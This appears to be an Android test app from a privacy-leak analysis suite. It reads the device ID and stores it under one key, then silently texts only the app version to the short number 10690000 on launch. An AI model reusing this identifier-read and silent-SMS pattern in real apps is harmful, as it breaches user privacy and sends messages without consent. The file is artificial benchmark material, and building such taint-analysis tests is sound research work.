package cn.privlens.suite.list_made_for_other_key;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

public class Main extends Activity {
    private final Map<String, List<String>> groups = new LinkedHashMap<>();

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        add("device", phone.getDeviceId());
        add("app", "1.0.3");
        add("app", "store");
        send(groups.get("app"));
    }

    private void add(String group, String line) {
        groups.computeIfAbsent(group, name -> new ArrayList<>()).add(line);
    }

    private void send(List<String> lines) {
        StringBuilder text = new StringBuilder();
        for (String line : lines) {
            text.append(line).append(' ');
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text.toString(), null, null);
    }
}
